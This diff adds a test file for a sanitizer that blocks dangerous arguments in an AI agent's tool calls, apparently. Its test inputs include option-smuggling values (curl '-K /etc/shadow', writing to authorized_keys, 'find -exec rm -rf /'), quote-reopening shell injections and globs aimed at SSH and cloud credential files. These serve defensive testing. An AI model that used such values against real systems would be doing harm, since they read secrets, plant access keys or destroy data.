@@ -1,0 +1,118 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: template payloads, not JS templates
+/**
+ * Field rules of the eighth pass: options smuggled into one operand (a package, a URL, a
+ * search pattern or a name), quotes closed and reopened around a command in a search field,
+ * globs climbing through a brace group or into a home key store — each beside the everyday
+ * values of the same fields — and a linearity check of the new patterns.
+ */
+import { describe, expect, it } from "vitest";
+import {
+  hasOptionAfterBlank,
+  hasOptionInUrl,
+  isOptionInOperand,
+} from "../../../src/sanitizer/flags.js";
+import { isClimbingGlob, isSensitiveGlob } from "../../../src/sanitizer/rules/glob.js";
+import { hasQuoteReopen } from "../../../src/sanitizer/rules/text-shell.js";
+import { rule } from "../blocked-rule.js";
+
+describe("an option inside one operand", () => {
+  it("blocks an option after a blank in an identifier or before a path in a URL", () => {
+    expect(rule("pip_install", { package: "requests --index-url http://x.example/simple" })).toBe(
+      "arg.leading-dash",
+    );
+    expect(rule("docker_run", { image: "alpine --privileged" })).toBe("arg.leading-dash");
+    expect(rule("git_checkout", { branch: "main -b x" })).toBe("arg.leading-dash");
+    expect(rule("curl_fetch", { url: "http://example.com -K /etc/shadow" })).toBe(
+      "arg.dangerous-flag",
+    );
+    expect(rule("curl_fetch", { url: "https://x.example/k -o ~/.ssh/authorized_keys" })).toBe(
+      "arg.dangerous-flag",
+    );
+  });
+
+  it("passes package specs, refs and URLs holding dashes and blanks", () => {
+    for (const [tool, args] of [
+      ["npm_install", { package: "@scope/pkg@^1.2.0" }],
+      ["pip_install", { package: "uvicorn[standard]==0.29.0" }],
+      ["git_diff", { ref: "origin/main...HEAD" }],
+      ["get_user", { username: "jean-luc.picard" }],
+      ["fetch", { url: "https://www.google.com/search?q=rust -tokio" }],
+      ["fetch", { url: "https://example.com/files/my report - final.pdf" }],
+    ] as const)
+      expect(rule(tool, args), JSON.stringify(args)).toBeUndefined();
+    expect(hasOptionAfterBlank("a - b")).toBe(false);
+    expect(hasOptionInUrl("https://x.example/?q=a -b")).toBe(false);
+  });
+
+  it("blocks a search pattern or a name that is a code-running option", () => {
+    expect(rule("git_grep", { pattern: "--open-files-in-pager=sh -c id" })).toBe(
+      "arg.dangerous-flag",
+    );
+    expect(rule("find_files", { name: "*.log -exec sh -c id ;" })).toBe("arg.dangerous-flag");
+    expect(rule("find_files", { name: "-exec rm -rf / ;" })).toBe("arg.dangerous-flag");
+    expect(isOptionInOperand("*.tmp -delete")).toBe(true);
+    expect(isOptionInOperand("x -execdir sh -c id {} +")).toBe(true);
+  });
+
+  it("passes searches about those options and names with dashes", () => {
+    expect(
+      rule("search_web", { query: "git clone --upload-pack option security" }),
+    ).toBeUndefined();
+    expect(rule("create_issue", { title: "Add --exec support to the watcher" })).toBeUndefined();
+    expect(rule("find_files", { name: "my-file -copy.txt" })).toBeUndefined();
+    expect(isOptionInOperand("-v")).toBe(false);
+    expect(isOptionInOperand("find -exec usage")).toBe(false);
+  });
+});
+
+describe("quotes closed and reopened in a search field", () => {
+  it("blocks a command between a closing and a reopening quote", () => {
+    expect(rule("grep", { pattern: "x' /etc/passwd; echo '" })).toBe("shell.injection");
+    expect(hasQuoteReopen('a" && id && echo "')).toBe(true);
+    expect(hasQuoteReopen("foo' `id` '")).toBe(true);
+  });
+
+  it("passes quoted alternations and prose with apostrophes", () => {
+    for (const v of ["'foo' | 'bar'", "don't do this; it's bad", "import .* from ['\"]"])
+      expect(hasQuoteReopen(v), v).toBe(false);
+    expect(rule("search_files", { pattern: "it's; done" })).toBeUndefined();
+  });
+});
+
+describe("globs through brace groups and into key stores", () => {
+  it("blocks climbing alternatives and home key stores", () => {
+    expect(rule("delete_files", { pattern: "{.,..,../..}/**" })).toBe("glob.wide");
+    expect(isClimbingGlob(["{src,../..}/**/*.ts"])).toBe(true);
+    expect(rule("search_files", { pattern: "**/.ssh/id_*" })).toBe("path.sensitive");
+    expect(isSensitiveGlob(["**/.aws/credentials"])).toBe(true);
+    expect(isSensitiveGlob(["*/.docker/config.json"])).toBe(true);
+  });
+
+  it("passes brace groups inside the project and project folders named like tools", () => {
+    expect(isClimbingGlob(["{src,test}/**/*.ts"])).toBe(false);
+    expect(rule("delete_files", { glob: "{dist,build}/**/*.map" })).toBeUndefined();
+    for (const g of [".docker/**/*.yml", ".azure/pipelines/*.yml", "**/*.pem", "src/ssh/*.ts"])
+      expect(isSensitiveGlob([g]), g).toBe(false);
+  });
+});
+
+describe("linear on long input", () => {
+  it("judges 200,000-character values of the new shapes in under a second", () => {
+    const long = [
+      `a${" ".repeat(200_000)}`,
+      `a ${"- ".repeat(100_000)}`,
+      `http://x ${"-a ".repeat(66_000)}`,
+      `x -exec ${"a ".repeat(100_000)}`,
+      `x' ${";".repeat(200_000)}`,
+    ];
+    for (const v of long) {
+      const t0 = performance.now();
+      hasOptionAfterBlank(v);
+      hasOptionInUrl(v);
+      isOptionInOperand(v);
+      hasQuoteReopen(v);
+      rule("find_files", { name: v, pattern: v, package: v, url: v });
+      expect(performance.now() - t0, v.slice(0, 20)).toBeLessThan(1000);
+    }
+  });
+});
